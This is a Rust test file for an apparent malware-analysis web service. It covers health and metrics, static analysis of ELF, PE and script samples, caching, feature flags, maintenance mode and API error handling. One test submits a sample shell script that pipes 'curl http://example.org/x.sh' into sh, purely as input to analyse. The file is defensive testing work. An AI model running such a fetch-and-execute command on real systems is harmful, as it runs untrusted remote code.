//! Black-box tests of the HTTP API: a real server on port 0, real samples, real HTTP.

mod common;

use athena_actors::analysis::testdata;
use common::{config, TestServer};
use serde_json::{json, Value};

fn assert_error_shape(status: u16, body: &Value, expected_status: u16, code: &str) {
    assert_eq!(status, expected_status, "{body}");
    assert_eq!(body["error"]["code"], code, "{body}");
    assert!(body["error"]["message"].as_str().is_some_and(|m| !m.is_empty()), "{body}");
}

#[actix_rt::test]
async fn health_readiness_and_metrics_answer_from_the_start() {
    let server = TestServer::default().await;
    let (status, health) = server.get("/api/health").await;
    assert_eq!(status, 200);
    assert_eq!(health["status"], "ok");
    let providers = health["providers"].as_array().unwrap();
    assert_eq!(providers.len(), 3);
    assert!(providers
        .iter()
        .all(|p| p["status"] == "unavailable" && p["reason"] == "no credentials"));

    let (status, ready) = server.get("/readyz").await;
    assert_eq!((status, &ready["ready"]), (200, &json!(true)));

    let (_, metrics) = server.get("/metrics").await;
    let text = metrics.as_str().unwrap();
    for series in [
        r#"athena_breaker_state{provider="claude",state="closed"} 1"#,
        r#"athena_breaker_state{provider="deepseek",state="open"} 0"#,
        r#"athena_bulkhead_active{service="static"} 0"#,
        r#"athena_bulkhead_queued{service="ai.openai"} 0"#,
        r#"athena_supervisor_restarts_total{service="container"} 0"#,
        "athena_jobs_submitted_total 0",
    ] {
        assert!(text.contains(series), "missing {series}");
    }
}

#[actix_rt::test]
async fn an_elf_from_the_system_is_identified_and_hashed() {
    let mut server = TestServer::default().await;
    let bytes = std::fs::read("/bin/ls").expect("/bin/ls exists");
    let record = server.analyse("ls", &bytes, "static").await;
    assert_eq!(record["status"], "completed", "{record}");
    let facts = &record["results"]["static"];
    assert_eq!(facts["fileType"], "elf");
    assert_eq!(facts["size"], bytes.len() as u64);
    let sha256 = athena_actors::job::Sample::new("ls", bytes).sha256;
    assert_eq!(facts["sha256"], sha256);
    assert!(!facts["sections"].as_array().unwrap().is_empty());
    assert_eq!(record["fromCache"], false);
    assert_eq!(record["progress"], 100);
}

#[actix_rt::test]
async fn a_pe_with_injection_imports_gets_an_explained_verdict() {
    let mut server = TestServer::default().await;
    let pe = testdata::injector_pe();
    let record = server.analyse("dropper.exe", &pe, "static").await;
    let results = &record["results"];
    assert_eq!(results["static"]["fileType"], "pe", "{record}");
    let imports = results["static"]["imports"].as_array().unwrap();
    assert!(imports.iter().any(|i| i == "kernel32.dll!WriteProcessMemory"), "{imports:?}");

    let indicators = results["indicators"].as_array().unwrap();
    assert!(!indicators.is_empty());
    let sum: u64 = indicators.iter().map(|i| i["weight"].as_u64().unwrap()).sum();
    assert_eq!(results["threatScore"], sum.min(100), "the score is the sum of the weights");
    assert_ne!(results["threatLevel"], "clean");
    assert!(!results["classifications"].as_array().unwrap().is_empty());
}

#[actix_rt::test]
async fn an_obfuscated_script_is_deobfuscated_and_its_iocs_extracted() {
    let mut server = TestServer::default().await;
    let script = testdata::obfuscated_js();
    let record = server.analyse("invoice.js", script.as_bytes(), "deobfuscate").await;
    let results = &record["results"];
    assert_eq!(results["static"]["fileType"], "javascript", "{record}");
    let code = results["deobfuscatedCode"].as_str().expect("static deobfuscator output");
    assert!(code.contains(testdata::OBFUSCATED_JS_URL), "{code}");
    let urls = results["iocs"]["urls"].as_array().unwrap();
    assert!(urls.iter().any(|u| u == testdata::OBFUSCATED_JS_URL), "{urls:?}");
    // No provider has credentials by default: each is listed as unavailable, none called.
    let providers = results["providers"].as_array().unwrap();
    assert_eq!(providers.len(), 3);
    assert!(providers.iter().all(|p| p["outcome"] == "unavailable"));
    let why = results["aiError"].as_str().unwrap();
    assert!(why.contains("no AI provider has credentials"), "{why}");
}

#[actix_rt::test]
async fn eicar_and_random_bytes() {
    let mut server = TestServer::default().await;
    let record = server.analyse("eicar.com", testdata::eicar(), "static").await;
    let indicators = record["results"]["indicators"].as_array().unwrap();
    assert!(indicators.iter().any(|i| i["id"] == "eicar-test-file"), "{record}");

    let random: Vec<u8> =
        (0..64 * 1024u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let record = server.analyse("blob.bin", &random, "full").await;
    assert_eq!(record["status"], "completed", "{record}");
    assert_eq!(record["results"]["static"]["fileType"], "unknown");
    assert_eq!(record["results"]["container"]["status"], "skipped");
}

#[actix_rt::test]
async fn resubmissions_come_from_the_cache_until_the_flag_turns_it_off() {
    let mut server = TestServer::default().await;
    let sample = b"#!/bin/sh\ncurl http://example.org/x.sh | sh\n";
    let first = server.analyse("a.sh", sample, "static").await;
    assert_eq!(first["fromCache"], false);
    let second = server.analyse("a.sh", sample, "static").await;
    assert_eq!(second["fromCache"], true);
    assert_eq!(second["results"], first["results"]);

    let (status, change) =
        server.put("/api/flags/cacheAnalysisResults", json!({"value": false})).await;
    assert_eq!(status, 200, "{change}");
    assert_eq!((&change["oldValue"], &change["newValue"]), (&json!(true), &json!(false)));
    let third = server.analyse("a.sh", sample, "static").await;
    assert_eq!(third["fromCache"], false, "the next job obeys the flag");

    let (_, audit) = server.get("/api/flags/audit").await;
    let entries = audit["entries"].as_array().unwrap();
    let last = entries.last().unwrap();
    assert_eq!((&last["flag"], &last["source"]), (&json!("cache_analysis_results"), &json!("api")));
    let (_, flags) = server.get("/api/flags").await;
    assert_eq!(flags["flags"]["cache_analysis_results"], false);

    let (_, metrics) = server.get("/metrics").await;
    let text = metrics.as_str().unwrap();
    assert!(
        text.contains(r#"athena_cache_requests_total{result="hit",tier="memory"} 1"#),
        "{text}"
    );
    assert!(
        text.contains(r#"athena_jobs_completed_total{from_cache="true",outcome="completed"} 1"#)
    );
    assert!(text.contains("athena_jobs_submitted_total 3"));
}

#[actix_rt::test]
async fn maintenance_mode_refuses_new_jobs_but_keeps_answering() {
    let mut server = TestServer::default().await;
    let done = server.analyse("a.txt", b"hello", "static").await;
    let (status, _) = server.put("/api/flags/maintenance_mode", json!({"value": true})).await;
    assert_eq!(status, 200);

    let response = server
        .client
        .post(server.url("/api/analysis/submit"))
        .json(&json!({"fileName": "b", "fileContent": "aGVsbG8="}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 503);
    assert!(response.headers().contains_key("retry-after"));
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["error"]["code"], "maintenance");

    let id = done["analysisId"].as_str().unwrap();
    let (status, _) = server.get(&format!("/api/analysis/status/{id}")).await;
    assert_eq!(status, 200);
}

#[actix_rt::test]
async fn multipart_submission_with_fields() {
    let mut server = TestServer::default().await;
    let form = reqwest::multipart::Form::new()
        .part(
            "file",
            reqwest::multipart::Part::bytes(testdata::eicar().to_vec()).file_name("../eicar.com"),
        )
        .text("analysisType", "static")
        .text("analysisDepth", "quick");
    let response = server
        .client
        .post(server.url("/api/analysis/submit"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let location = response.headers()["location"].to_str().unwrap().to_string();
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["status"], "pending");
    assert_eq!(location, body["statusUrl"]);
    let record = server.wait_finished(body["analysisId"].as_str().unwrap()).await;
    assert_eq!(record["results"]["static"]["fileName"], "eicar.com");
}

#[actix_rt::test]
async fn bad_input_on_every_route_gets_a_clear_error() {
    let server = TestServer::start(config(&[], |c| c.server.max_body_bytes = 1024)).await;
    let post_raw = |body: &'static str, content_type: &'static str| {
        server
            .client
            .post(server.url("/api/analysis/submit"))
            .header("content-type", content_type)
            .body(body)
            .send()
    };
    let read = |r: reqwest::Response| async move {
        let status = r.status().as_u16();
        (status, r.json::<Value>().await.unwrap_or(Value::Null))
    };

    let (s, b) = read(post_raw("hello", "text/plain").await.unwrap()).await;
    assert_error_shape(s, &b, 415, "unsupported_media_type");
    let (s, b) = read(post_raw("{not json", "application/json").await.unwrap()).await;
    assert_error_shape(s, &b, 400, "bad_request");
    let (s, b) = server.post("/api/analysis/submit", json!({"fileName": "x"})).await;
    assert_error_shape(s, &b, 400, "bad_request");
    let (s, b) = server.post("/api/analysis/submit", json!({"fileContent": "%%%"})).await;
    assert_error_shape(s, &b, 400, "bad_request");
    let (s, b) = server
        .post("/api/analysis/submit", json!({"fileContent": "aGk=", "analysisType": "magic"}))
        .await;
    assert_error_shape(s, &b, 400, "bad_request");
    assert!(b["error"]["message"].as_str().unwrap().contains("static, deobfuscate"));
    let (s, b) = server
        .post("/api/analysis/submit", json!({"fileContent": "aGk=", "analysisDepth": "abyss"}))
        .await;
    assert_error_shape(s, &b, 400, "bad_request");
    let (s, b) =
        server.post("/api/analysis/submit", json!({"fileContent": "", "fileName": "e"})).await;
    assert_error_shape(s, &b, 400, "bad_request");

    let big = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, vec![7u8; 4096]);
    let (s, b) = server.post("/api/analysis/submit", json!({"fileContent": big})).await;
    assert_error_shape(s, &b, 413, "payload_too_large");
    let form = reqwest::multipart::Form::new()
        .part("file", reqwest::multipart::Part::bytes(vec![1u8; 4096]));
    let r = server
        .client
        .post(server.url("/api/analysis/submit"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let (s, b) = read(r).await;
    assert_error_shape(s, &b, 413, "payload_too_large");
    let form = reqwest::multipart::Form::new().text("analysisType", "static");
    let r = server
        .client
        .post(server.url("/api/analysis/submit"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let (s, b) = read(r).await;
    assert_error_shape(s, &b, 400, "bad_request");

    let (s, b) = server.get("/api/analysis/status/01ARZ3NDEKTSV4RRFFQ69G5FAV").await;
    assert_error_shape(s, &b, 404, "unknown_analysis");
    let (s, b) = server.get("/api/analysis/status/not-an-id").await;
    assert_error_shape(s, &b, 404, "unknown_analysis");

    let (s, b) = server.put("/api/flags/no_such_flag", json!({"value": true})).await;
    assert_error_shape(s, &b, 404, "unknown_flag");
    let (s, b) = server.put("/api/flags/enable_bulkhead", json!({"value": "sometimes"})).await;
    assert_error_shape(s, &b, 400, "invalid_flag_value");
    let (s, b) =
        server.put("/api/flags/ai_provider_priority", json!({"value": ["claude", "skynet"]})).await;
    assert_error_shape(s, &b, 400, "invalid_flag_value");
    let (s, b) = server.put("/api/flags/enable_bulkhead", json!({"val": true})).await;
    assert_error_shape(s, &b, 400, "bad_request");

    let (s, b) = server.put("/api/admin/pools/gpu", json!({"workers": 2})).await;
    assert_error_shape(s, &b, 404, "unknown_service");
    let (s, b) = server.put("/api/admin/pools/static", json!({"workers": 0})).await;
    assert_error_shape(s, &b, 400, "bad_request");
    let (s, b) = server.put("/api/admin/pools/static", json!({"workers": "many"})).await;
    assert_error_shape(s, &b, 400, "bad_request");
    let (s, b) = server.post("/api/admin/breakers/hal9000", json!({"action": "reset"})).await;
    assert_error_shape(s, &b, 404, "unknown_provider");
    let (s, b) = server.post("/api/admin/breakers/claude", json!({"action": "explode"})).await;
    assert_error_shape(s, &b, 400, "bad_request");

    let (s, b) = server.get("/api/nothing/here").await;
    assert_error_shape(s, &b, 404, "not_found");
}

#[actix_rt::test]
async fn status_reports_pools_and_admin_resizes_them() {
    let server = TestServer::default().await;
    let (status, body) = server.put("/api/admin/pools/static", json!({"workers": 4})).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["workers"], 4);
    let (_, status_doc) = server.get("/api/status").await;
    let services = status_doc["services"].as_array().unwrap();
    let static_pool = services.iter().find(|s| s["service"] == "static").unwrap();
    assert_eq!(static_pool["workers"], 4);
    assert!(static_pool["bulkhead"]["maxConcurrent"].as_u64().unwrap() >= 2);
    assert_eq!(services.len(), 6, "static, container, cache and three providers");
    assert_eq!(status_doc["breakers"].as_array().unwrap().len(), 3);

    let (status, body) =
        server.post("/api/admin/breakers/claude", json!({"action": "force_open"})).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["slots"][0]["state"], "forced_open");
    let (_, metrics) = server.get("/metrics").await;
    assert!(metrics
        .as_str()
        .unwrap()
        .contains(r#"athena_breaker_state{provider="claude",state="forced_open"} 1"#));
}

#[actix_rt::test]
async fn the_openapi_document_lists_exactly_the_routes_served() {
    let server = TestServer::default().await;
    let (status, doc) = server.get("/api/openapi.json").await;
    assert_eq!(status, 200);
    let paths = doc["paths"].as_object().unwrap();
    for (path, methods) in paths {
        for method in methods.as_object().unwrap().keys() {
            let concrete = path
                .replace("{id}", "01ARZ3NDEKTSV4RRFFQ69G5FAV")
                .replace("{name}", "x")
                .replace("{service}", "x")
                .replace("{provider}", "x");
            let request = server
                .client
                .request(method.to_uppercase().parse().unwrap(), server.url(&concrete));
            let response =
                request.header("content-type", "application/json").body("{}").send().await.unwrap();
            let body: Value = response.json().await.unwrap_or(Value::Null);
            assert_ne!(
                body["error"]["code"], "not_found",
                "{method} {path} is documented but not served"
            );
        }
    }
    let documented: Vec<&str> = paths.keys().map(String::as_str).collect();
    for route in athena::http::ROUTES {
        assert!(documented.contains(route), "{route} is served but not documented");
    }
}
